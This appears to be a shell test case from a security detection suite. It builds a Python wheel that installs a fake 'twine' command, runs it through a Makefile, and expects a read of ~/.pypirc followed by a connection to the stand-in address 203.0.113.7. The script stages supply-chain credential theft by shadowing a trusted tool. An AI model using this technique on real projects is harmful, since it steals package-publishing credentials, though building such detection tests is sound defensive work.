# A wheel's script is called twine; pip itself puts it there, a recipe runs it
# expect: 86 .pypirc 203.0.113.7:443
. "$(dirname "$0")/../lib.sh"
tools
mkdir w; { python_thief "~/.pypirc"; echo "def main(): pass"; } >w/evil_m.py
cat >w/setup.py <<'X'
from setuptools import setup
setup(name="e", version="1", py_modules=["evil_m"], entry_points={"console_scripts": ["twine=evil_m:main"]})
X
(cd w && python3 setup.py -q bdist_wheel >/dev/null 2>&1 && mv dist/*.whl ..); rm -r w
export PATH=$(dirname "$(/opt/venv/bin/python -c 'import sys; print(sys.base_prefix)')/bin/x"):$PATH
printf 'all:\n\t.venv/bin/twine upload\n' >Makefile
step <<'X'
python3 -m venv .venv
.venv/bin/pip install --no-index ./e-1-py3-none-any.whl
make
X
